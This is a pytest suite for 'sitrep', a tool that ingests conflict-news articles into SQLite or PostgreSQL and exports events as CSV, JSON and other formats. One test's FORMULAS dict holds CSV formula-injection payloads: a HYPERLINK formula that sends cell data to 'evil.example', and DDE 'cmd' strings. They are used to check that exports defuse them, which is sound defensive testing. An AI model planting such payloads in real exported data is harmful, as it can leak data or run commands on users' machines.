"""`sitrep ingest` and `sitrep events`: the shells over the store, on SQLite and PostgreSQL.

In-process through click's CliRunner (stdout and stderr apart), so spaCy loads once.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import click
import filter_data
import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from sitrep.bench import synthetic_store_corpus
from sitrep.cli import cli
from sitrep.models import Event
from sitrep.store import open_store

EXAMPLES = Path(__file__).resolve().parents[1] / "examples"
SUMMARY = re.compile(r"(\d+) new, (\d+) unchanged, (\d+) new versions, (\d+) skipped; (\d+) events")


def _run(*args: str):
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def _summary(output: str) -> list[int]:
    found = SUMMARY.search(output)
    assert found, output
    return [int(g) for g in found.groups()]


def _article(tmp_path: Path, name: str, text: str, **fields) -> Path:
    path = tmp_path / name
    path.write_text(json.dumps({"text": text, **fields}) + "\n", encoding="utf-8")
    return path


def test_ingest_is_idempotent_and_events_reads_it_back(store_url, tmp_path, kit) -> None:
    first = _run("ingest", "--db", store_url, str(EXAMPLES))
    assert first.exit_code == 0, first.stderr
    new, unchanged, versions, skipped, stored = _summary(first.stdout)
    assert (unchanged, versions, skipped) == (0, 0, 0) and new >= 10 and stored > new
    again = _run("ingest", "--db", store_url, str(EXAMPLES))
    assert _summary(again.stdout) == [0, new, 0, 0, 0]

    lines = _run("events", "--db", store_url, "--format", "jsonl").stdout.splitlines()
    events = [Event.from_dict(json.loads(line)) for line in lines]
    assert len(events) == stored
    assert [e.event_date for e in events if e.event_date] == sorted(
        e.event_date for e in events if e.event_date
    )
    as_json = json.loads(_run("events", "--db", store_url, "--format", "json").stdout)
    assert [Event.from_dict(d) for d in as_json] == events

    nigeria = _run("events", "--db", store_url, "--country", "NGA", "--format", "jsonl")
    got = [json.loads(line) for line in nigeria.stdout.splitlines()]
    assert got and all(d["location"]["country_code"] == "NGA" for d in got)
    assert len(got) == sum(1 for e in events if e.location and e.location.country_code == "NGA")

    deadly = ["events", "--db", store_url, "--format", "csv", "--min-fatalities", "5"]
    rows = list(csv.DictReader(io.StringIO(_run(*deadly, "--include-incomplete").stdout)))
    expected = [e for e in events if e.fatalities and e.fatalities.best >= 5]
    assert [r["event_date"] for r in rows] == [
        e.event_date.isoformat() if e.event_date else "" for e in expected
    ]
    # By default ACLED CSV leaves out the undated, country-less and pointless events, and
    # says so.
    default = _run(*deadly)
    dated = [r["event_date"] for r in csv.DictReader(io.StringIO(default.stdout))]
    assert dated == [
        r["event_date"] for r in rows if r["event_date"] and r["iso"] and r["latitude"]
    ]
    assert len(dated) < len(rows)  # the corpus has undated deadly events
    assert f"left out {len(rows) - len(dated)} events" in default.stderr
    table = _run("events", "--db", store_url, "--format", "table", "--limit", "3")
    assert table.exit_code == 0 and "type" in table.stdout


def test_changed_article_is_ingested_as_a_new_version(store_url, tmp_path, kit) -> None:
    text = "Gunmen attacked a police station in Jamundi, Colombia, killing two officers."
    v1 = _article(tmp_path, "v1.jsonl", text, id="jamundi", published="2024-05-02")
    v2 = _article(
        tmp_path, "v2.jsonl", text.replace("two", "three"), id="jamundi", published="2024-05-02"
    )
    assert _summary(_run("ingest", "--db", store_url, str(v1)).stdout)[:4] == [1, 0, 0, 0]
    assert _summary(_run("ingest", "--db", store_url, str(v2)).stdout)[:4] == [0, 0, 1, 0]
    assert _summary(_run("ingest", "--db", store_url, str(v1), str(v2)).stdout)[:4] == [0, 2, 0, 0]
    (event,) = [json.loads(x) for x in _run("events", "--db", store_url).stdout.splitlines()]
    assert event["fatalities"]["best"] == 3  # the latest version only


@pytest.mark.reliability(
    "an invalid JSON Lines file in an ingest batch",
    "one 'skipped' line on stderr, exit 1, the good articles stored",
)
def test_bad_input_is_one_line_and_the_batch_goes_on(store_url, tmp_path, kit) -> None:
    good = _article(tmp_path, "good.jsonl", "Police arrested five protesters in Goma, DR Congo.")
    bad = tmp_path / "bad.jsonl"
    bad.write_text("{not json\n", encoding="utf-8")
    result = _run("ingest", "--db", store_url, str(bad), str(good))
    assert result.exit_code == 1
    assert _summary(result.stdout)[:4] == [1, 0, 0, 1]
    skipped = [line for line in result.stderr.splitlines() if line.startswith("sitrep: skipped")]
    assert len(skipped) == 1 and "bad.jsonl" in skipped[0]


def test_events_on_a_missing_store_says_how_to_make_one(tmp_path) -> None:
    result = CliRunner().invoke(cli, ["events", "--db", str(tmp_path / "none.db")])
    assert result.exit_code == 1
    assert "sitrep ingest" in result.stderr
    assert not (tmp_path / "none.db").exists()


def test_bad_filters_are_usage_errors(tmp_path) -> None:
    result = CliRunner().invoke(cli, ["events", "--db", str(tmp_path / "x.db"), "--bbox", "1,2,3"])
    assert result.exit_code == 2 and "min_lon,min_lat,max_lon,max_lat" in result.stderr


@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv", "table"])
def test_incidents_are_listed_in_every_format(tmp_path, kit, fmt) -> None:
    db = str(tmp_path / "s.db")
    assert _run("ingest", "--db", db, str(EXAMPLES)).exit_code == 0
    result = _run("events", "--db", db, "--incidents", "--format", fmt)
    assert result.exit_code == 0, result.stderr
    if fmt == "jsonl":
        incidents = [json.loads(x) for x in result.stdout.splitlines()]
        events = _run("events", "--db", db, "--format", "jsonl").stdout.splitlines()
        members = sorted(e for i in incidents for e in i["events"])
        assert members == sorted(json.loads(x)["event_id"] for x in events)


def test_store_bench_measures_both_databases(postgres_server) -> None:
    "Speed is never asserted (shared machines are noisy), only that every number is measured."
    from sitrep.bench import STORE_QUERIES, run_store_bench

    url = postgres_server.create_database("bench_test")
    result = run_store_bench(articles=20, events=400, reconciled_articles=5, repeats=2, pg_url=url)
    assert set(result["backends"]) == {"sqlite", "postgresql"}
    for name, r in result["backends"].items():
        assert r["dialect"] == name
        assert r["ingest"]["articles"] == 20 and r["ingest"]["articles_per_s"] > 0
        assert r["stored"]["events"] == 400
        assert [q["query"] for q in r["queries"]] == [name for name, _ in STORE_QUERIES]
        assert all(q["p95_ms"] >= q["p50_ms"] > 0 for q in r["queries"])
        assert any(q["rows"] for q in r["queries"])
        if "ingest_reconciled" in r:
            assert r["stored"]["incidents"] > 0
    # Both databases hold the same corpus, so every query returns the same rows.
    sqlite_rows = [q["rows"] for q in result["backends"]["sqlite"]["queries"]]
    assert sqlite_rows == [q["rows"] for q in result["backends"]["postgresql"]["queries"]]


FORMULAS = {
    "outlet": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "notes": "+cmd|' /C calc'!A0",
    "actor": "-2+3+cmd|' /C calc'!A0",
    "place": "@SUM(1+1)*cmd|' /C calc'!A0",
    "admin1": "\t=1+1",
    "admin2": "\r=1+1",
}


def _formula_store(url: str) -> None:
    "A store holding one event whose outlet, notes, actor and place start like formulas."
    import dataclasses

    from api_data import xss_article

    from sitrep.store import open_store

    article, (event,) = xss_article()
    article = dataclasses.replace(article, outlet=FORMULAS["outlet"])
    actor = dataclasses.replace(event.actors[0], name=FORMULAS["actor"])
    place = dataclasses.replace(
        event.location,
        name=FORMULAS["place"],
        admin1=FORMULAS["admin1"],
        admin2=FORMULAS["admin2"],
        longitude=-3.5,
    )
    event = dataclasses.replace(
        event,
        actors=(actor, *event.actors[1:]),
        location=place,
        notes=FORMULAS["notes"],
        sources=(FORMULAS["outlet"],),
    )
    with open_store(url) as store:
        store.ingest(article, [event])


def _cells(text: str) -> dict[str, str]:
    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    return {
        "outlet": row["source"],
        "notes": row["notes"],
        "actor": row["actor1"],
        "place": row["location"],
        "admin1": row["admin1"],
        "admin2": row["admin2"],
        "longitude": row["longitude"],
    }


@pytest.mark.reliability(
    "outlet, notes, actor or place starting with =, +, -, @, tab or CR in a CSV export",
    "a leading ' so spreadsheets show it as text (OWASP); --raw-cells writes it as stored",
)
def test_csv_cells_never_run_as_formulas(store_url, tmp_path) -> None:
    from api_data import TestClient

    from sitrep.api import create_app

    _formula_store(store_url)
    defused = {name: "'" + value for name, value in FORMULAS.items()}
    out = tmp_path / "events.csv"
    written = _run("export", "--db", store_url, "--format", "acled-csv", "-o", str(out))
    assert written.exit_code == 0, written.stderr
    with TestClient(create_app(store_url)) as client:
        api = client.get("/api/export", params={"format": "acled-csv"})
        api_raw = client.get("/api/export", params={"format": "acled-csv", "raw_cells": "true"})
    outputs = {
        "export -o": out.read_bytes().decode("utf-8"),
        "export": _run("export", "--db", store_url, "--format", "acled-csv").stdout,
        "events": _run("events", "--db", store_url, "--format", "csv").stdout,
        "/api/export": api.text,
    }
    for where, text in outputs.items():
        cells = _cells(text)
        assert cells.pop("longitude") == "-3.5", where  # a number stays a number
        assert cells == defused, where
    raw = {
        "export": _run("export", "--db", store_url, "--format", "acled-csv", "--raw-cells").stdout,
        "events": _run("events", "--db", store_url, "--format", "csv", "--raw-cells").stdout,
        "/api/export": api_raw.text,
    }
    for where, text in raw.items():
        cells = _cells(text)
        cells.pop("longitude")
        assert cells == FORMULAS, where


def _stored(url: str) -> int:
    lines = _run("events", "--db", url, "--format", "jsonl").stdout.splitlines()
    return len(lines)


@pytest.mark.reliability(
    "export -o onto the store (x.db, x.db-wal, a hard link), a FIFO, a symlink, a device",
    "refused with one line naming the path; nothing is replaced; files go via a temp + rename",
)
def test_export_never_writes_onto_the_store_or_a_special_file(store_url, tmp_path) -> None:
    import os
    import stat

    _formula_store(store_url)
    before = _stored(store_url)
    targets: dict[Path, str] = {}
    if not store_url.startswith("postgresql"):
        db = Path(store_url)
        link = tmp_path / "hardlink.db"
        os.link(db, link)
        relative = os.path.relpath(db)
        for path in (db, Path(f"{db}-wal"), Path(f"{db}-journal"), link, Path(relative)):
            targets[path] = "is a file of the store being exported"
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    targets[fifo] = "is a FIFO, not a regular file"
    real = tmp_path / "real.jsonl"
    real.write_text("keep me\n")
    symlink = tmp_path / "link.jsonl"
    symlink.symlink_to(real)
    targets[symlink] = "is a symbolic link, not a regular file"
    device = tmp_path / "null"
    try:
        os.mknod(device, 0o666 | stat.S_IFCHR, os.makedev(1, 3))  # like /dev/null
    except PermissionError:
        pass  # not root: FIFOs and links still cover "not a regular file"
    else:
        targets[device] = "is a character device, not a regular file"
    for target, problem in targets.items():
        shown = os.lstat(target) if target.exists() or target.is_symlink() else None
        result = _run("export", "--db", store_url, "--format", "jsonl", "-o", str(target))
        assert result.exit_code == 1, (target, result.stderr)
        (line,) = result.stderr.splitlines()
        assert line.startswith(f"Error: {target}: {problem}"), line
        assert "wrote" not in result.stderr
        if shown is not None:  # the very same file (or node) is still there
            after = os.lstat(target)
            assert (after.st_ino, after.st_mode) == (shown.st_ino, shown.st_mode), target
    assert real.read_text() == "keep me\n" and symlink.is_symlink()
    assert _stored(store_url) == before
    # A new path and an existing regular file are written whole, with no temporary left.
    for out in (tmp_path / "new.jsonl", real):
        result = _run("export", "--db", store_url, "--format", "jsonl", "-o", str(out))
        assert result.exit_code == 0, result.stderr
        assert len(out.read_text().splitlines()) == before
    left = sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("."))
    assert left == []


@pytest.mark.reliability(
    '"published": "9999-12-31" and "on 31 December" in the text',
    "the event is stored without its date, with one warning naming the article",
)
def test_an_implausible_event_date_is_dropped_with_a_warning(store_url, tmp_path, kit) -> None:
    text = "Gunmen attacked a police station in Jamundi, Colombia on 31 December, killing two."
    far = _article(tmp_path, "far.jsonl", text, id="far", published="9999-12-31")
    near = _article(tmp_path, "near.jsonl", text, id="near", published="2024-12-31")
    result = _run("ingest", "--db", store_url, str(far), str(near))
    assert result.exit_code == 0, result.stderr
    assert _summary(result.stdout)[:4] == [2, 0, 0, 0]
    (warning,) = [line for line in result.stderr.splitlines() if "warning" in line]
    assert "far.jsonl" in warning and "9999-12-31" in warning
    assert "stored without a date" in warning
    events = [json.loads(x) for x in _run("events", "--db", store_url).stdout.splitlines()]
    dates = {e["article_id"]: (e["event_date"], e["date_precision"]) for e in events}
    assert dates == {"far": (None, None), "near": ("2024-12-31", "day")}


@pytest.mark.reliability(
    '"published": "0001-01-01" and "yesterday" in the text',
    "the article is stored; the relative date, which would fall before year 1, is left empty",
)
def test_a_relative_date_before_the_calendar_is_left_empty(tmp_path, kit) -> None:
    text = "Gunmen attacked a police station in Jamundi, Colombia yesterday, killing two."
    first = _article(tmp_path, "first.jsonl", text, id="first", published="0001-01-01")
    db = str(tmp_path / "store.db")
    result = _run("ingest", "--db", db, str(first))
    assert result.exit_code == 0, result.stderr
    assert _summary(result.stdout)[:4] == [1, 0, 0, 0]
    events = [json.loads(x) for x in _run("events", "--db", db).stdout.splitlines()]
    assert events and all(e["event_date"] is None for e in events)


# --- faults: damaged, foreign, read-only and full stores ------------------------------------

SITREP = str(Path(sys.executable).with_name("sitrep"))


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _filled_store(path: Path, articles: int = 20) -> list[Event]:
    "A SQLite store at `path` holding synthetic articles; their events."
    corpus = synthetic_store_corpus(articles, events_per_article=3, seed=11)
    with open_store(path) as store:
        for article, events in corpus:
            store.ingest(article, events)
    return [e for _, events in corpus for e in events]


def _one_line_error(result, *words: str) -> str:
    """The command failed with exit 1 and said so in one line that holds every word (besides
    warnings about the input, such as an undated article's relative dates)."""
    assert result.exit_code == 1, (result.exit_code, result.stdout, result.stderr)
    lines = [x for x in result.stderr.strip().splitlines() if not x.startswith("sitrep: warning:")]
    assert len(lines) == 1, result.stderr
    for word in words:
        assert word in lines[0], lines[0]
    return lines[0]


@contextlib.contextmanager
def _mounted(target: Path, *args: str) -> Iterator[Path]:
    """A real filesystem mounted at `target` for the length of a test (we run as root):
    the faults below must bind for root, which file modes do not."""
    if os.geteuid() != 0:
        pytest.skip("mounting a filesystem for this fault needs root (CI runs as root)")
    target.mkdir(parents=True, exist_ok=True)
    done = subprocess.run(["mount", *args, str(target)], capture_output=True, text=True)
    if done.returncode != 0:
        pytest.fail(f"could not mount {args} at {target}: {done.stderr.strip()}")
    try:
        yield target
    finally:
        subprocess.run(["umount", "-l", str(target)], capture_output=True, check=False)


def _damage(path: Path, kind: str) -> None:
    "Real damage: garbage for a whole file, or the root page of `events` overwritten."
    if kind == "not a database":
        path.write_bytes(os.urandom(64 * 1024))
        return
    with sqlite3.connect(path) as conn:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        root = conn.execute("SELECT rootpage FROM sqlite_master WHERE name = 'events'").fetchone()
        size = conn.execute("PRAGMA page_size").fetchone()[0]
    conn.close()
    with path.open("r+b") as f:
        f.seek((root[0] - 1) * size)
        f.write(b"\xab" * size)


@pytest.mark.reliability(
    "a corrupted SQLite file (garbage, or a damaged page)",
    "every command fails with one line naming the file; nothing is written to it",
)
@pytest.mark.parametrize("kind", ["not a database", "damaged page"])
def test_a_damaged_store_is_one_line_in_every_command(tmp_path, kind) -> None:
    db = tmp_path / "store.db"
    _filled_store(db)
    _damage(db, kind)
    before = _digest(db)
    article = _article(tmp_path, "a.jsonl", "Police arrested five protesters in Goma, DR Congo.")
    commands = [
        ["events", "--db", str(db), "--format", "jsonl"],
        ["export", "--db", str(db), "--format", "geojson"],
        ["token", "create", "alice", "--db", str(db)],
        ["token", "list", "--db", str(db)],
        ["ingest", "--db", str(db), str(article)],
    ]
    for args in commands:
        _one_line_error(_run(*args), str(db), "damaged")
    # serve in a process of its own, so a store that opened would not serve forever here
    served = subprocess.run(
        [SITREP, "serve", "--db", str(db), "--port", "0"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert served.returncode == 1
    assert str(db) in served.stderr and "damaged" in served.stderr
    assert _digest(db) == before


@pytest.mark.reliability(
    "another application's database given as the store",
    "refused untouched (no tables added, no WAL switch), naming its tables and what to do",
)
def test_another_applications_database_is_refused_untouched(store_url, tmp_path) -> None:
    from sitrep.store.connect import resolve_url

    engine = sa.create_engine(resolve_url(store_url))
    with engine.begin() as conn:
        conn.execute(sa.text("CREATE TABLE users (id INTEGER PRIMARY KEY, name TEXT)"))
        conn.execute(sa.text("CREATE TABLE orders (id INTEGER PRIMARY KEY)"))
        conn.execute(sa.text("INSERT INTO users (id, name) VALUES (1, 'ada')"))
    sqlite = not store_url.startswith("postgresql")
    before = _digest(Path(store_url)) if sqlite else None
    article = _article(tmp_path, "a.jsonl", "Police arrested five protesters in Goma, DR Congo.")
    for args in (["ingest", "--db", store_url, str(article)], ["events", "--db", store_url]):
        line = _one_line_error(_run(*args), "not Sitrep's", "orders, users", "--db")
    assert "new file" in line
    with engine.connect() as conn:
        assert sorted(sa.inspect(conn).get_table_names()) == ["orders", "users"]
        if sqlite:
            assert conn.execute(sa.text("PRAGMA journal_mode")).scalar() == "delete"
    engine.dispose()
    if sqlite:
        assert _digest(Path(store_url)) == before
        assert not Path(store_url + "-wal").exists()


@pytest.mark.reliability(
    "a store on a read-only mount (binds for root too)",
    "events, export and token list read it; a writing command says it needs write access",
)
def test_a_store_in_a_read_only_folder_can_be_read(tmp_path) -> None:
    src = tmp_path / "src"
    src.mkdir()
    events = _filled_store(src / "store.db")
    with _mounted(tmp_path / "ro", "--bind", str(src)) as ro:
        subprocess.run(["mount", "-o", "remount,ro,bind", str(ro)], check=True)
        db = str(ro / "store.db")
        listed = _run("events", "--db", db, "--format", "jsonl")
        assert listed.exit_code == 0, listed.stderr
        ids = sorted(json.loads(x)["event_id"] for x in listed.stdout.splitlines())
        assert ids == sorted(e.event_id for e in events)
        exported = _run("export", "--db", db, "--format", "geojson")
        assert exported.exit_code == 0, exported.stderr
        assert _run("token", "list", "--db", db).exit_code == 0
        _one_line_error(_run("token", "create", "alice", "--db", db), db, "read-only")
        assert sorted(os.listdir(ro)) == ["store.db"]  # no -wal or -shm left behind


def _stopped_once(result, db: str) -> list[int]:
    "Ingest stopped at its first storage failure: exit 1, one line, and no skipped articles."
    _one_line_error(result, "stopped:", db, "cannot store", "run the same ingest again")
    return _summary(result.stdout)


@pytest.mark.reliability(
    "the disk fills up during ingest (a small tmpfs)",
    "ingest stops at the first failed article with one line; the store stays intact and a "
    "rerun after freeing space stores the rest exactly once",
)
def test_a_full_disk_stops_ingest_and_a_rerun_resumes(tmp_path, kit) -> None:
    with _mounted(tmp_path / "disk", "-t", "tmpfs", "-o", "size=4m", "tmpfs") as disk:
        db = disk / "store.db"
        open_store(db).close()  # the empty store, then fill the disk but for ~700 KB
        free = os.statvfs(disk).f_bavail * os.statvfs(disk).f_frsize
        filler = disk / "filler"
        filler.write_bytes(b"\0" * (free - 700 * 1024))
        first = _run("ingest", "--db", str(db), str(EXAMPLES))
        new, unchanged, _, skipped, stored = _stopped_once(first, str(db))
        assert "disk is full" in first.stderr
        assert new >= 1 and unchanged == skipped == 0  # some stored, then one failure, no more
        with sqlite3.connect(db) as conn:
            assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        conn.close()
        with open_store(db) as store:
            assert store.stats()["articles"] == new and store.stats()["events"] == stored

        filler.unlink()
        again = _run("ingest", "--db", str(db), str(EXAMPLES))
        assert again.exit_code == 0, again.stderr
        rest, done, _, _, more = _summary(again.stdout)
        assert done == new and rest >= 1
        with open_store(db) as store:
            assert store.stats()["articles"] == new + rest
            ids = [e.event_id for e in store.events()]
        assert len(ids) == len(set(ids)) == stored + more


@pytest.mark.reliability(
    "PostgreSQL refuses every write during ingest (database set read-only)",
    "ingest stops at the first article with one line; a rerun once writable stores them all",
)
def test_a_store_that_refuses_writes_stops_ingest(postgres_server, tmp_path, kit) -> None:
    import psycopg

    name = "refuses_writes"
    url = postgres_server.create_database(name)
    try:
        open_store(url).close()  # the schema exists; from now on every write is refused
        with psycopg.connect(postgres_server.url_for("postgres"), autocommit=True) as admin:
            admin.execute(f"ALTER DATABASE {name} SET default_transaction_read_only = on")
        first = _run("ingest", "--db", url, str(EXAMPLES))
        assert "read-only transaction" in first.stderr
        assert _stopped_once(first, name) == [0, 0, 0, 0, 0]
        with psycopg.connect(postgres_server.url_for("postgres"), autocommit=True) as admin:
            admin.execute(f"ALTER DATABASE {name} RESET default_transaction_read_only")
        again = _run("ingest", "--db", url, str(EXAMPLES))
        assert again.exit_code == 0, again.stderr
        new, unchanged, versions, skipped, stored = _summary(again.stdout)
        assert (unchanged, versions, skipped) == (0, 0, 0) and new >= 10
        with open_store(url) as store:
            assert (store.stats()["articles"], store.stats()["events"]) == (new, stored)
    finally:
        postgres_server.drop_database(name)


@pytest.mark.reliability(
    "ingest of articles with a lone surrogate (\\ud800) or a NUL in text, title, id or outlet",
    "stored alike on SQLite and PostgreSQL, as U+FFFD; the batch finishes; a rerun is unchanged",
)
def test_characters_that_are_not_text_are_stored_alike_everywhere(store_url, tmp_path) -> None:
    lines = [
        {"id": "before", "text": "Police arrested five protesters in Goma, DR Congo."},
        {
            "id": "odd\ud800",
            "text": "Gunmen killed two\x00 soldiers in Goma,\ud800 DR Congo, officials said.",
            "title": "Goma\ud800",
            "outlet": "Kivu\x00 Times",
        },
        {"id": "after", "text": "Rebels shelled the airport of Goma, DR Congo, police said."},
    ]
    path = tmp_path / "odd.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    ingest = [sys.executable, "-m", "sitrep", "ingest", "--db", store_url, str(path)]
    first = subprocess.run(ingest, capture_output=True, text=True, timeout=300)
    assert (first.returncode, first.stderr) == (0, "")
    assert _summary(first.stdout)[:4] == [3, 0, 0, 0]
    with open_store(store_url, create=False) as store:
        stored = store.article("odd\ufffd")
        assert stored is not None
        assert (
            stored.text
            == "Gunmen killed two\ufffd soldiers in Goma,\ufffd DR Congo, officials said."
        )
        assert (stored.title, stored.outlet) == ("Goma\ufffd", "Kivu\ufffd Times")
        events = store.events_of("odd\ufffd")
        assert events, "two soldiers killed in Goma is an event"
        for event in events:
            for claim in event.claims:
                assert stored.text[claim.start : claim.end] == claim.quote
    again = subprocess.run(ingest, capture_output=True, text=True, timeout=300)
    assert _summary(again.stdout)[:4] == [0, 3, 0, 0]


# --- filters: one definition of the options for `events` and `export` ---------------------


@pytest.fixture(scope="module")
def filter_db(tmp_path_factory: pytest.TempPathFactory) -> str:
    "The hand-written store of `filter_data` (SQLite), built once."
    path = tmp_path_factory.mktemp("filters") / "filters.db"
    filter_data.seed(path)
    return str(path)


def _options(filters: dict) -> list[str]:
    "Filters as `Filters` fields name them, as command-line options."
    flags = {"event_type": "--type", "q": "--search"}
    out: list[str] = []
    for field, value in filters.items():
        out += [flags.get(field, "--" + field.replace("_", "-")), str(value)]
    return out


def _event_ids(result) -> list[str]:
    assert result.exit_code == 0, result.stderr
    return [json.loads(line)["event_id"] for line in result.stdout.splitlines()]


@pytest.mark.parametrize("command", ["events", "export"])
@pytest.mark.parametrize(
    "filters, expected", filter_data.CASES, ids=[str(f) for f, _ in filter_data.CASES]
)
def test_each_filter_selects_its_events(filter_db, command, filters, expected) -> None:
    fmt = "jsonl"
    result = _run(command, "--db", filter_db, *_options(filters), "--format", fmt)
    assert _event_ids(result) == expected


@pytest.mark.parametrize(
    "filters, closest", filter_data.UNKNOWN, ids=[str(f) for f, _ in filter_data.UNKNOWN]
)
@pytest.mark.parametrize("command", ["events", "export"])
def test_an_unknown_value_is_a_usage_error_naming_the_closest(
    filter_db, command, filters, closest
) -> None:
    ((_, value),) = filters.items()
    flag = _options(filters)[0]
    result = CliRunner().invoke(
        cli, [command, "--db", filter_db, flag, value, "--format", "jsonl"], prog_name="sitrep"
    )
    assert result.exit_code == 2 and result.stdout == ""
    (line,) = [x for x in result.stderr.splitlines() if x.startswith("Error:")]
    assert line.startswith(f"Error: Invalid value for '{flag}': no ")
    assert repr(value) in line and closest in line.split(repr(value), 1)[1]


def test_an_unknown_name_is_refused_before_any_output(filter_db) -> None:
    "json output starts with '[': a name only the store could know is checked before it."
    result = _run("events", "--db", filter_db, "--actor", "Nobody Army", "--format", "json")
    assert result.exit_code == 2 and result.stdout == ""
    assert "no actor 'Nobody Army' is known" in result.stderr


@pytest.mark.parametrize(
    "options, members",
    [
        (["--actor", "ISIS"], {"ev-raqqa", "ev-mosul", "ev-maiduguri"}),
        (["--region", "Western Africa"], {"ev-maiduguri"}),
        (["--admin1", "Idlib"], {"ev-saraqib"}),
        (["--interaction", "12", "--geo-precision", "1"], {"ev-mosul"}),
        (["--review", "confirmed"], {"ev-raqqa"}),
        (["--min-confidence", "0.9", "--year", "2016"], {"ev-saraqib"}),
    ],
)
def test_incidents_are_filtered_through_their_events(filter_db, options, members) -> None:
    result = _run("events", "--db", filter_db, "--incidents", *options, "--format", "jsonl")
    assert result.exit_code == 0, result.stderr
    incidents = [json.loads(line) for line in result.stdout.splitlines()]
    assert {e for i in incidents for e in i["events"]} == members


def test_an_exported_interaction_and_region_are_what_was_asked(filter_db) -> None:
    "The filters read the codes exactly as the ACLED export writes them."
    for options, column, value in [
        (["--interaction", "12"], "interaction", "12"),
        (["--interaction", "27"], "interaction", "27"),
        (["--region", "Middle East"], "region", "Middle East"),
        (["--country", "760"], "iso", "760"),
    ]:
        result = _run("export", "--db", filter_db, *options, "--format", "acled-csv")
        assert result.exit_code == 0, result.stderr
        rows = list(csv.DictReader(io.StringIO(result.stdout)))
        assert rows and {r[column] for r in rows} == {value}, options


def test_the_filter_options_are_one_definition() -> None:
    "events and export offer the same filters, with the same help."
    from sitrep.cli import events, export_command

    def filters(command) -> dict[str, str | None]:
        return {
            p.name: p.help
            for p in command.params
            if isinstance(p, click.Option) and p.name not in ("db", "fmt", "raw_cells")
        }

    ours = filters(events)
    assert ours.keys() - {"incidents"} == filters(export_command).keys() - {"incidents", "output"}
    assert {"year", "region", "admin1", "sub_event_type", "interaction", "geo_precision"} <= set(
        ours
    )
    assert {"min_confidence", "review", "since", "until", "country", "actor"} <= set(ours)
